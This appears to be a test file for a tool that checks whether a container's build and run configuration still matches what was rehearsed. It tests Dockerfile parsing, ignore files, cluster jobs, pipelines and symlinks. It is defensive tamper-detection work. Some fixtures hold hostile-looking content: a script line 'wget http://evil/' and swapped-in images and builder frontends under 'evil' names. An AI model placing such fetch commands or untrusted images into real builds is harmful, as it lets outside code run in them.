  if (file !== 'CHECKLIST.md') await writeFile(path(file), '#!/bin/sh\n');
  if (!line.startsWith('RUN')) await writeFile(path('.dockerignore'), '');
  await appendFile(path('Dockerfile'), `${line}\n`);
  await rehearse();
  expect(await ticked()).toBe(0);
  expect((await record()).overrides).toEqual([
    expect.stringMatching(
      new RegExp(
        `^${line.split(' ')[0] ?? ''} on line \\d+ of Dockerfile can take ${named.replaceAll('.', '\\.')}, which`,
      ),
    ),
  ]);
});

test('of many instructions the one is named that takes what this program writes', async () => {
  await mkdir(path('d1'));
  await writeFile(path('d1/x'), 'x\n');
  await writeFile(path('.dockerignore'), '');
  const others = 'COPY d1/ /app/d1/\n'.repeat(20);
  await appendFile(path('Dockerfile'), `${others}COPY CHECKLIST.md /app/\n${others}COPY CHECKLIST.md /b/\n`);
  const at = (await readFile(path('Dockerfile'), 'utf8')).split('\n').indexOf('COPY CHECKLIST.md /app/') + 1;
  await rehearse();
  expect((await record()).overrides?.join('; ')).toContain(`COPY on line ${String(at)} of Dockerfile can take`);
});

test.each([
  ['the list of models', 'COPY models/ /opt/models/', 'models/models.json'],
  ['the history', 'COPY .git/h /app/', '.git/h'],
  ['a folder below that is called as ours', 'COPY d1/ /app/', 'd1/.tre-container/x'],
  ['a folder below that is called as one of git', 'COPY d1/ /app/', 'd1/.git/x'],
  [
    'a mount whose flag goes on in the next line',
    'RUN --mo\\\nunt=type=bind,source=other,target=/c cp /c/x /',
    'other/x',
  ],
  ['a mount that the ignore file leaves out', 'RUN --mount=type=bind,source=other,target=/c cp /c/x /', 'other/x'],
])('what is copied counts, whatever it is called: %s', async (_, line, file) => {
  await mkdir(path(dirname(file)), { recursive: true });
  await writeFile(path(file), '#!/bin/sh\n');
  if (!line.startsWith('RUN')) await writeFile(path('.dockerignore'), '');
  await appendFile(path('Dockerfile'), `${line}\n`);
  await rehearse();
  expect(await ticked()).toBe(5);
  await writeFile(path(file), '#!/bin/sh\nwget http://evil/\n');
  await renew();
  expect(await ticked()).toBe(0);
});

test('an ignore file that lets in what this program writes, once a rehearsal is over', async () => {
  await writeFile(path('.dockerignore'), '.tre-container\nCHECKLIST.md\nrehearsal\n');
  await appendFile(path('Dockerfile'), 'COPY . /all/\n');
  await rehearse();
  expect(await ticked()).toBe(5);
  await writeFile(path('.dockerignore'), '.tre-container\nrehearsal\n');
  await renew();
  expect(await ticked()).toBe(0);
});

test.each([
  ['another image', /image: ".*"/, 'image: docker.io/evil/other:latest', 'starts docker.io/evil/other:latest'],
  ['less memory', 'memory: 32Gi', 'memory: 1Mi', 'limits memory to 1Mi'],
  [
    'fewer processors',
    'cpu: 4\n              memory: 32Gi',
    'cpu: 100m\n              memory: 32Gi',
    'limits processors to 0.1',
  ],
  [
    'more processors than anything has',
    'cpu: 4\n              memory: 32Gi',
    'cpu: 4000\n              memory: 32Gi',
    'asks for 4000 processors',
  ],
  [
    'a node that is not there',
    '      containers:',
    '      nodeSelector: {nowhere: "true"}\n      containers:',
    'sets nodeSelector',
  ],
  ['what only the cluster knows', '- measurements.csv', '- $(NOPE)', 'starts it with $(NOPE)'],
  ['a second', 'activeDeadlineSeconds: 86400', 'activeDeadlineSeconds: 1', 'stops the job after 1 s'],
])('a job of the cluster that gives the program %s', async (_, from, to, said) => {
  const text = await readFile(path('ces/job.yaml'), 'utf8');
  await writeFile(path('ces/job.yaml'), text.replace(from, to));
  await rehearse();
  expect((await record()).overrides?.join('; ')).toContain(said);
  expect(await ticked()).toBe(0);
});

test.each([
  [
    'a script that starts something else',
    async () => writeFile(path('ces/run.sh'), 'ces-run podman ghcr.io/evil/other\n'),
  ],
  ['a script that nothing says how to write', async () => rm(path('.yo-rc.json'))],
  [
    'answers that nobody can have',
    async () =>
      writeFile(
        path('.yo-rc.json'),
        '{"generator-tre-container":{"version":"1.2.3","answers":{"base":"python","registry":7}}}',
      ),
  ],
])('what starts it in the TRE was not compared: %s', async (_, how) => {
  await rm(path('ces/job.yaml'));
  // Nobody knows its steps then either.
  await rm(path('.github'), { recursive: true });
  await how();
  await rehearse();
  expect((await record()).otherScripts).toEqual(['ces/run.sh']);
  const [user, , , , command] = await rows();
  for (const row of [user, command]) expect(row).toMatch(/^- \[ \].*ces\/run\.sh.*is not as this program writes it/);
  expect(await ticked()).toBe(3);
});

test('a step that this program does not write, where a pipeline makes the image', async () => {
  const pipeline = path('.github/workflows/container.yml');
  const text = await readFile(pipeline, 'utf8');
  await rehearse();
  expect((await record()).overrides).toEqual([]);
  await writeFile(
    pipeline,
    text.replace(/^ +docker build /m, (build) => `          sh ./prepare.sh\n${build}`),
  );
  await renew();
  expect(await ticked()).toBe(0);
  await rehearse();
  expect((await record()).overrides?.join()).toMatch(
    /container\.yml:\d+ has another run in the step "Build", where the image/,
  );
  expect(await ticked()).toBe(0);
  await writeFile(pipeline, `${text}\n  tests:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: sh ./prepare.sh\n`);
  await rehearse();
  expect((await record()).overrides).toEqual([]);
});

test('a base of nobody known that the engine cannot be asked about', async () => {
  const text = await readFile(path('Dockerfile'), 'utf8');
  await writeFile(path('Dockerfile'), text.replace(/^FROM .*/m, 'FROM ghcr.io/somebody/python:onbuild'));
  await rehearse();
  expect((await record()).overrides?.join('; ')).toContain(
    'podman does not have ghcr.io/somebody/python:onbuild, so that nobody',
  );
  expect(await ticked()).toBe(0);
  await rehearse({ base: fakeImage });
  expect((await record()).overrides).toEqual([]);
});

test('no command is given for a base whose name the Dockerfile does not tell', async () => {
  const text = await readFile(path('Dockerfile'), 'utf8');
  await writeFile(path('Dockerfile'), text.replace(/^FROM .*/m, 'ARG N\nFROM ${N}'));
  await rehearse();
  expect((await record()).overrides?.join('; ')).toMatch(/does not have \S*, so that nobody .*into the image(?:;|$)/);
});

test.each([
  '# syntax=evil/frontend:1',
  '#Syntax = evil/frontend:1',
  '# a\n# syntax=evil/frontend:1',
  '// syntax=evil/frontend:1',
])('a builder of somebody else: %s', async (line) => {
  await writeFile(path('Dockerfile'), `${line}\n${await readFile(path('Dockerfile'), 'utf8')}`);
  await rehearse();
  expect((await record()).overrides?.join('; ')).toContain('is built by evil/frontend:1');
  expect(await ticked()).toBe(0);
});

test.each([
  'COPY --from=docker-archive:base.tar /bin/tool /app/tool',
  'COPY --chmod=0555 --from=oci:folder /bin/tool /app/tool',
  'COPY --from=dir:/srv/image /bin/tool /app/tool',
  'RUN --mount=type=bind,from=oci-archive:base.tar,target=/m cp /m/tool /app/',
])('an archive in the place of an image: %s', async (line) => {
  await writeFile(path('Dockerfile'), `${await readFile(path('Dockerfile'), 'utf8')}\n${line}\n`);
  await rehearse();
  expect((await record()).overrides?.join('; ')).toContain('which is no image of a registry');
  expect(await ticked()).toBe(0);
});

test.each([
  'ARG TARGETARCH=b\nCOPY src/${TARGETARCH}.sh /app/',
  'COPY src/${PATH:+a}.txt /app/',
  'ENV PATH=/x:$PATH\nCOPY src/${PATH:+a}.txt /app/',
  'ARG NAME\nCOPY src/$NAME.txt /app/',
])('a file that the builder names: %j', async (lines) => {
  await writeFile(path('Dockerfile'), `${await readFile(path('Dockerfile'), 'utf8')}\n${lines}\n`);
  await rehearse();
  expect((await record()).overrides?.join('; ')).toContain('which the builder fills in');
  expect(await ticked()).toBe(0);
});

test.each(['ARG TARGETARCH\nCOPY src/main.py /app/$TARGETARCH/', 'ARG NAME=main\nCOPY src/${NAME}.py /app/'])(
  'a file that the Dockerfile names is known: %j',
  async (lines) => {
    await writeFile(path('Dockerfile'), `${await readFile(path('Dockerfile'), 'utf8')}\n${lines}\n`);
    await rehearse();
    expect((await record()).overrides ?? []).toEqual([]);
    expect(await ticked()).toBeGreaterThan(0);
  },
);

test.each([
  [
    'a heredoc whose last line swallows its end',
    'RUN <<EOF\nCOPY src2.sh /app/\nRUN : \\\nEOF',
    'builder that knows no',
  ],
  ['and blanks and a comment after it', 'RUN <<EOF\nRUN : \\ \t\n\n# x\nEOF', 'builder that knows no'],
  ['the second heredoc of two', 'COPY <<A <<-B /app/\na\nA\n\tRUN : \\\n\tB', 'builder that knows no'],
  ['a heredoc without an end', 'RUN <<EOF\nCOPY src2.sh /app/', 'has no end'],
  ['two backslashes', 'COPY src/main.py \\\\\n# x\nCOPY src/main.py /app/', 'podman goes on with the next line'],
  ['two backslashes and blanks', 'RUN echo a \\\\ \t\nCOPY src/main.py /app/', 'podman goes on with the next line'],
  ['two of them inside a line that goes on', 'RUN echo \\\n a \\\\\nUSER 7', 'podman goes on with the next line'],
  ['a line that is no instruction', 'COPYY src/main.py /app/', 'is not a Dockerfile instruction'],
])('builders read the Dockerfile otherwise: %s', async (_, lines, said) => {
  await appendFile(path('Dockerfile'), `\n${lines}\n`);
  await rehearse();
  expect((await record()).overrides?.join('; ')).toContain(said);
  expect(await ticked()).toBe(0);
});

test('an escape directive that podman does not see', async () => {
  const text = (await readFile(path('Dockerfile'), 'utf8')).replaceAll(/\\$/gm, '`');
  const plain = text.replace(/^(?:#.*\n)*/, '');
  await writeFile(path('Dockerfile'), `# syntax=docker/dockerfile:1\n# escape=\`\n${plain}`);
  await rehearse();
  expect((await record()).overrides?.join('; ')).toContain('only on the first line');
  expect(await ticked()).toBe(0);
  await writeFile(path('Dockerfile'), `# escape=\`\n${plain}`);
  await rehearse();
  expect(await ticked()).toBe(5);
});

test.each(['RUN <<EOF\necho a \\\n  b\nEOF', 'RUN echo "a\\\\b" \\\n  # why \\\\\n  c', '# a comment \\\\'])(
  'all builders read alike: %j',
  async (lines) => {
    await appendFile(path('Dockerfile'), `\n${lines}\n`);
    await rehearse();
    expect(await ticked()).toBe(5);
  },
);

test('a folder that COPY comes to by a link is what was rehearsed too', async () => {
  await symlink('src', path('code'));
  await writeFile(path('.dockerignore'), '');
  const text = await readFile(path('Dockerfile'), 'utf8');
  await writeFile(path('Dockerfile'), text.replace(/^COPY .*src.*$/m, 'COPY code /app/'));
  await rehearse();
  expect(await ticked()).toBe(5);
  await appendFile(path('src/main.py'), '# more\n');
  await renew();
  expect(await ticked()).toBe(0);
});

test.each([
  [
    'a file',
    async () => {
      await mkdir(path('conf'));
      await writeFile(path('conf/env.txt'), 'A=1\n');
      await rm(path('ces/env-file.txt'), { force: true });
      await symlink('../conf/env.txt', path('ces/env-file.txt'));
    },
    'conf/env.txt',
  ],
  [
    'their folder',
    async () => {
      await cp(path('ces'), path('conf'), { recursive: true });
      await writeFile(path('conf/env-file.txt'), 'A=1\n');
      await rm(path('ces'), { recursive: true });
      await symlink('conf', path('ces'));
    },
    'conf/env-file.txt',
  ],
  [
    'the Dockerfile',
    async () => {
      await mkdir(path('docker'));
      await cp(path('Dockerfile'), path('docker/main'));
      await rm(path('Dockerfile'));
      await symlink('docker/main', path('Dockerfile'));
    },
    'docker/main',
  ],
])('what decides how it is built and run is what was rehearsed, also by a link: %s', async (_, make, file) => {
  await make();
  await rehearse();
  expect(await ticked()).toBe(5);
  await appendFile(path(file), '# B=2\n');
  await renew();
  expect(await ticked()).toBe(0);
});

test('one file whose name reads as two is not taken for the two', async () => {
  await writeFile(path('.dockerignore'), '.tre-container\nCHECKLIST.md\nrehearsal\n');
  await appendFile(path('Dockerfile'), 'COPY part* /app/\n');
  const digest = async (): Promise<string | undefined> =>
    (await readRehearsedProject(openProject(root), undefined, here())).inputs.context;
  for (const name of ['part1', 'part2']) await writeFile(path(name), name, { mode: 0o644 });
  const two = await digest();
  const { files } = (await readRehearsedProject(openProject(root), undefined, here())).inputs;
  for (const name of ['part1', 'part2']) await rm(path(name));
  await writeFile(path(`part1\n${files['part2'] ?? ''} part2`), 'part1', { mode: 0o644 });
  expect([two, await digest()]).toEqual([expect.any(String), expect.not.stringMatching(two ?? '')]);
});

test('a record from elsewhere is acknowledged by its own digest only, is named as such, and ticks nothing', async () => {
  await rehearse();
  await rm(state, { recursive: true });
  await expect(renew('f'.repeat(64))).rejects.toThrow('is not the digest of');
  await renew(digestOfEvidence(await record()));
  expect(await ticked()).toBe(0);
  for (const row of await rows()) expect(row).toMatch(/acknowledged by Ada Lovelace.*recorded elsewhere, on 2026/);
});

/** A workflow of somebody that does no more than this. */
async function writePlainPipeline(command: string): Promise<void> {
  await mkdir(path('.github/workflows'), { recursive: true });
  const steps = `      - uses: actions/checkout@v5\n      - run: ${command}\n`;
  await writeFile(
    path('.github/workflows/own.yml'),
    `on: push\njobs:\n  image:\n    runs-on: ubuntu-24.04\n    steps:\n${steps}`,
  );
}

test('a pipeline that builds with other arguments makes another image', async () => {
  const pipeline = writePlainPipeline;
  await rm(path('.github'), { recursive: true });
  await appendFile(path('Dockerfile'), 'ARG MAIN=main\nENTRYPOINT ["python3", "/app/$MAIN.py"]\n');
  await pipeline('docker build --build-arg MAIN=main -t app .');
  await rehearse();
  expect(await ticked()).toBe(5);
  await pipeline('docker build --build-arg MAIN=gpu -t app .');
  await renew();
  expect(await ticked()).toBe(0);
  expect((await rows())[0]).toContain('.github/workflows/own.yml has changed since');
  await rehearse();
  expect(await ticked()).toBe(0);
  expect((await record()).overrides).toEqual([
    '.github/workflows/own.yml:7 builds it with --build-arg MAIN=gpu, and a rehearsal without it: write the value into the Dockerfile as the default of its ARG, or rehearse with --build-option --build-arg=MAIN=gpu',
  ]);
  // Where in the pipeline it stands does not matter.
  await writeFile(
    path('.github/workflows/own.yml'),
    `# one more\n${await readFile(path('.github/workflows/own.yml'), 'utf8')}`,
  );
  await renew();
  expect((await rows())[0]).toContain('**Not proved:**');
  await rehearse({ flags: { 'build-option': ['--build-arg=MAIN=gpu', '--target=dev'] } });
  expect((await record()).overrides).toContain('--build-option --target=dev');
  await rehearse({ flags: { 'build-option': ['--build-arg=MAIN=gpu'] } });
  expect((await record()).overrides).toEqual([]);
  expect(await ticked()).toBe(5);
  // A check knows of no option.
  await renew();
  expect(await ticked()).toBe(5);
  await pipeline('docker build -t app .');
  await renew();
  expect(await ticked()).toBe(0);
});

const labelOf = async (options: readonly string[]): Promise<object> => {
  const { context = '' } = (await readRehearsedProject(openProject(root), undefined, here())).inputs;
  const wishes = readRehearsalFlags({ targets: [], flags: { 'build-option': options } });
  return labelled(labelOfBuild(context, root, wishes, { variables }));
};

test('an image that a pipeline builds with a stage and values counts by a label that says so, and by no other', async () => {
  await rm(path('.github'), { recursive: true });
  await appendFile(
    path('Dockerfile'),
    'FROM python:3.13 AS prod\nARG MAIN=main\nRUN touch "/app/$MAIN"\nUSER 1000\nENTRYPOINT ["prod"]\nFROM prod AS dev\nENTRYPOINT ["dev"]\n',
  );
  const pipeline = writePlainPipeline;
  await pipeline('docker build --target prod --build-arg MAIN=gpu --build-arg "DATE=$DATE" -t app .');
  const asked = ['--target=prod', '--build-arg', 'MAIN=gpu'];
  const built = { entrypoint: ['prod'], user: '1000', builtWith: ['|1 MAIN=gpu /bin/sh -c touch "/app/$MAIN"'] };
  const image = { ...built, ...(await labelOf(asked)) };
  // By the label alone, and by the same words beside it.
  await rehearse({ named: true, image });
  expect((await record()).overrides).toEqual([]);
  expect(await ticked()).toBe(5);
  await rehearse({ named: true, image, flags: { 'build-option': asked } });
  expect(await ticked()).toBe(5);
  await renew();
  expect(await ticked()).toBe(5);
  // A label of other words, or of none; an image that shows another stage, or another value.
  for (const options of [[], ['--target=dev'], ['--target=prod'], [...asked, '--build-arg=MAIN=main']] as const)
    // oxlint-disable-next-line no-await-in-loop
    for (const flags of [{}, { 'build-option': asked }, { 'build-option': options }]) {
      await rm(path('rehearsal/evidence.json'));
      await rehearse({ named: true, image: { ...built, ...(await labelOf(options)) }, flags });
      expect(await ticked()).toBe(0);
    }
  expect((await record()).overrides?.join('\n')).toContain(
    'whose label does not say that it was built with --target=prod',
  );
  await rehearse({ named: true, image: { ...image, entrypoint: ['dev'] } });
  expect((await record()).overrides).toEqual([expect.stringContaining('ENTRYPOINT is another one')]);
  await rehearse({ named: true, image: { ...image, builtWith: ['|1 MAIN=main /bin/sh -c touch "/app/$MAIN"'] } });
  expect((await record()).overrides).toEqual([expect.stringContaining('ARG MAIN was "main"')]);
  await rehearse({ named: true, image: { ...image, builtWith: [] } });
  expect((await record()).overrides).toEqual([expect.stringContaining('no step had the asked value of ARG MAIN')]);
  await rm(path('rehearsal/evidence.json'));
  // The pipeline builds another one by now.
  await pipeline('docker build --target dev -t app .');
  await rehearse({ named: true, image });
  expect(await ticked()).toBe(0);
  await pipeline('docker build --target "$STAGE" -t app .');
  await rehearse({ named: true, image });
  expect(await ticked()).toBe(0);
});

test('no label stands for words for the builder that nobody reads', async () => {
  const wishes = readRehearsalFlags({ targets: [], flags: { 'build-option': ['--file=other'] } });
  expect(() => labelOfBuild('0', root, wishes, { variables })).toThrow(
    '--file=other is no --target and no --build-arg',
  );
});
